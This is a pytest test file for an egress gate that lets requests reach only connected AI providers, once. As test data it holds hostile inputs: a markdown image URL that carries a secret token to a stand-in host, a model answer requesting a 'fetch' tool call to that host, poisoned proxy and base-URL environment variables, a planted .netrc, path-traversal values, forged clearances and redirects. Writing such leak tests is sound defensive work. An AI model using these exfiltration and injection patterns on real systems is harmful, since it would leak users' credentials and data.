"""One way out, taken once: no second try, no second provider, no second host, no other name, no proxy."""

from __future__ import annotations

import base64
import json
import os
import signal
from dataclasses import replace
from typing import Any

import pytest
from canaries import found
from closed_home import CLAUDE, GPT, HOSTS, ClosedHome
from outbounds_of_a_liar import free, kept, server_forged, unset_files, zone_forged
from outside import Manner
from watching import Teach, Watch

from aspen.core.egress import clearance
from aspen.core.errors import AspenError, BadModelFile, DoesNotFit, EngineStopped, ProviderFailed, RateLimited
from fakes.gate_process import RunningGate
from fakes.service_home import ENGINE, long_question

STRANGER = "stranger.example.org"
FETCH = {
    "type": "function",
    "function": {"name": "fetch", "parameters": {"type": "object", "properties": {"url": {"type": "string"}}}},
}


def test_case_09_a_model_that_cannot_be_loaded_is_an_error_and_nobody_else_is_asked(
    home: ClosedHome, watch: Watch, token: str
) -> None:
    before = len(home.ledger())
    broken = home.root / "broken.gguf"
    broken.write_bytes(b"GGUF" + b"\0" * 100)
    answered = home.ask(token, model=str(broken), label="may-leave")
    assert isinstance(answered.error, BadModelFile)
    assert home.ledger()[before:] == []
    assert watch.nothing_left()
    assert watch.leaks(token, home) == []


def test_case_09_what_does_not_fit_into_memory_is_an_error_and_nobody_else_is_asked(
    home: ClosedHome, watch: Watch, token: str
) -> None:
    before = len(home.ledger())
    answered = home.ask(token, model="local", label="may-leave", options={"context_tokens": 2_000_000_000})
    assert isinstance(answered.error, DoesNotFit)
    assert home.ledger()[before:] == []
    assert watch.nothing_left()
    assert watch.leaks(token, home) == []


@pytest.mark.parametrize("model", ["local", "auto"])
def test_case_09_an_engine_that_dies_in_mid_answer_is_an_error_and_nobody_else_is_asked(
    home: ClosedHome, watch: Watch, token: str, model: str
) -> None:
    home.ask_here("Be there.")
    before = len(home.ledger())
    asked = long_question(f"List numbers for {token}.")
    with home.session() as session, pytest.raises(EngineStopped):
        for frame in session.stream("ask", {**asked, "model": model, "label": "may-leave"}):
            if frame.get("event") == "text":
                for pid in home.pids(ENGINE):
                    os.kill(pid, signal.SIGKILL)
    assert home.ledger()[before:] == []
    assert watch.nothing_left()
    assert watch.leaks(token, home) == []


@pytest.mark.parametrize(
    ("fault", "error"), [("overloaded", ProviderFailed), ("broken", ProviderFailed), ("too_fast", RateLimited)]
)
def test_case_10_a_provider_that_fails_is_not_asked_again_and_nobody_else_is(
    home: ClosedHome, watch: Watch, manners: Teach, fault: str, error: type[AspenError]
) -> None:
    manners("api.anthropic.com", Manner(fault=fault))
    failed = home.ask("Five captions", model=CLAUDE)
    assert isinstance(failed.error, error)
    assert [asked.host for asked in watch.asked] == ["api.anthropic.com"]
    assert watch.names == {"api.anthropic.com"}


def test_case_10_a_clearance_is_good_for_one_send(gate: RunningGate, watch: Watch) -> None:
    with gate.exchange() as core:
        envelope = core.send(free("once"))
        assert core.answer()[0]["event"] == "end"
        core.say({"do": "settle", "cost_microdollars": 0})
    with gate.exchange() as core:
        core.send_envelope(core.envelope(envelope.outbound, nonce=envelope.nonce))
        assert core.expect("error")["code"] == "stays_here"
    assert len(watch.asked) == 1


@pytest.mark.parametrize("forged", ["zeros", "of other bytes", "of another gate"])
def test_case_10_a_forged_clearance_sends_nothing(gate: RunningGate, watch: Watch, token: str, forged: str) -> None:
    with gate.exchange() as core:
        key = bytes.fromhex(str(core.hello["clearance_key"]))
        wrong = {
            "zeros": "0" * 64,
            "of other bytes": clearance(core.envelope(free("Something else.")), key),
            "of another gate": clearance(core.envelope(free(token)), bytes(32)),
        }
        core.send_envelope(core.envelope(free(token)), wrong[forged])
        assert core.expect("error")["code"] == "stays_here"
    assert watch.nothing_left()


@pytest.mark.parametrize("lie", [kept, zone_forged, server_forged])
def test_case_01_the_gate_refuses_what_stays_here_even_from_a_core_that_was_taken_over(
    gate: RunningGate, watch: Watch, token: str, lie: Any
) -> None:
    with gate.exchange() as core:
        core.send(lie(token))
        assert core.expect("error")["code"] == "stays_here"
    assert gate.person.call("pending")["pending"] == []
    assert watch.nothing_left()


def test_case_01_the_gate_shows_a_person_what_a_core_calls_just_typed(
    gate: RunningGate, watch: Watch, token: str
) -> None:
    with gate.exchange() as core:
        core.send(unset_files(token))
        waiting = core.expect("awaiting_approval")
        shown = gate.person.call("preview", nonce=waiting["nonce"])
        assert token in base64.b64decode(shown["body_base64"]).decode()
        assert watch.nothing_left()
    assert watch.nothing_left()


def test_case_18_a_picture_in_an_answer_is_text_and_is_not_fetched(
    home: ClosedHome, watch: Watch, manners: Teach, token: str
) -> None:
    text = f"![logo](https://{STRANGER}/x.png?q={token}) <img src='https://{STRANGER}/y'> [more](https://{STRANGER}/)"
    manners("api.openai.com", Manner(text=text))
    before = home.aspen("preview", "--json", "--model", GPT, "Draw a logo")
    sent = home.aspen("ask", "--model", GPT, "--yes-send", json.loads(before.out)["body_sha256"], "Draw a logo")
    assert sent.code == 0, sent
    assert sent.out.strip() == text
    assert watch.names == {"api.openai.com"}


def test_case_24_what_an_answer_asks_for_is_neither_called_nor_fetched(
    home: ClosedHome, watch: Watch, manners: Teach
) -> None:
    manners(
        "api.openai.com", Manner(text=f"See https://{STRANGER}/.", call=json.dumps({"url": f"https://{STRANGER}/"}))
    )
    answered = home.ask("What is new?", model="gpt-5.4", tools=[FETCH], label="may-leave")
    assert [call["name"] for call in answered.result["tool_calls"]] == ["fetch"]
    assert [asked.host for asked in watch.asked] == ["api.openai.com"]
    assert watch.names == {"api.openai.com"}


@pytest.mark.parametrize("provider", [f"https://{STRANGER}", STRANGER, "", "mistral", "openai@stranger.example.org"])
def test_case_31_a_name_that_is_not_of_a_connected_provider_is_never_looked_up(
    gate: RunningGate, watch: Watch, token: str, provider: str
) -> None:
    with gate.exchange() as core:
        core.send(free(token, provider=provider))
        assert core.expect("error")["code"] == "not_found"
    assert watch.nothing_left()


@pytest.mark.parametrize(
    "path", ["//stranger.example.org/v1", "@stranger.example.org/", "/../..", "/v1/chat?to=https://a.example", "", "/é"]
)
def test_case_31_a_path_that_leads_elsewhere_is_refused_before_anything_is_looked_up(
    gate: RunningGate, watch: Watch, token: str, path: str
) -> None:
    outbound = free(token)
    with gate.exchange() as core:
        core.send(replace(outbound, destination=replace(outbound.destination, path=path)))
        assert core.expect("error")["code"] == "stays_here"
    assert watch.nothing_left()


def test_case_31_a_whole_day_looks_up_the_providers_that_were_asked(new_home: ClosedHome, watch: Watch) -> None:
    new_home.connect(*HOSTS)
    for model in (CLAUDE, GPT, "gemini-3.8-flash", "mistral-small-2603"):
        answered = new_home.ask("Hello", model=model)
        assert answered.error is None, answered.error
    new_home.ask_here("Hello")
    new_home.aspen("models")
    new_home.aspen("ps")
    assert watch.names == set(HOSTS.values())
    assert {asked.host for asked in watch.asked} == set(HOSTS.values())


def test_case_31_nobody_looks_up_a_provider_that_was_removed(new_home: ClosedHome, watch: Watch) -> None:
    new_home.connect("openai")
    assert new_home.aspen("cloud", "remove", "openai").code == 0
    assert new_home.ask("Hello", model=GPT, label="may-leave").is_refused
    assert watch.nothing_left()


def test_case_32_poisoned_settings_of_the_shell_change_nothing(new_home: ClosedHome, watch: Watch, token: str) -> None:
    proxy = f"http://{STRANGER}:3128"
    new_home.environment |= {
        **dict.fromkeys(("http_proxy", "https_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"), proxy),
        **dict.fromkeys(("OPENAI_BASE_URL", "OPENAI_API_BASE", "ANTHROPIC_BASE_URL"), f"https://{STRANGER}"),
        "OPENAI_ORG_ID": token,
        "NETRC": str(new_home.root / "home" / ".netrc"),
        "SSL_CERT_FILE": "/nonexistent",
        "SSL_CERT_DIR": "/nonexistent",
        "SSLKEYLOGFILE": str(new_home.root / "tls-secrets"),
        "RES_OPTIONS": "debug",
        "LOCALDOMAIN": STRANGER,
    }
    netrc = new_home.root / "home" / ".netrc"
    netrc.write_text(f"default login {token} password {token}\n", "utf-8")
    netrc.chmod(0o600)
    new_home.connect("openai")
    answered = new_home.ask("Hello", model=GPT)
    assert answered.text == "Hello there."
    (asked,) = watch.asked
    assert found(token, {"the request": asked.whole}) == []
    assert watch.names == {"api.openai.com"}
    assert not (new_home.root / "tls-secrets").exists()


@pytest.mark.parametrize("to", ["https://api.mistral.ai/v1/chat/completions", f"https://{STRANGER}/", "/v1/elsewhere"])
def test_case_33_a_redirect_is_an_error_and_the_second_host_sees_nothing(
    home: ClosedHome, watch: Watch, manners: Teach, to: str
) -> None:
    manners("api.openai.com", Manner(redirect_to=to))
    failed = home.ask("Hello", model=GPT)
    assert [asked.host for asked in watch.asked] == ["api.openai.com"]
    assert watch.names == {"api.openai.com"}
    assert failed.error is not None
    assert "redirect" in failed.error.sentence


def test_airplane_mode_lets_nothing_leave_not_even_from_a_core_that_ignores_it(
    gate: RunningGate, watch: Watch, token: str
) -> None:
    gate.person.call("airplane", on=True)
    with gate.exchange() as core:
        core.send(free(token))
        assert core.expect("error")["code"] == "airplane_mode"
    assert watch.nothing_left()


def test_airplane_mode_is_a_word_at_the_command_line(new_home: ClosedHome, watch: Watch, token: str) -> None:
    new_home.connect("anthropic")
    assert new_home.aspen("airplane", "on").code == 0
    refused = new_home.aspen("ask", "--model", CLAUDE, "--label", "may-leave", token)
    assert refused.code == 4
    assert watch.nothing_left()
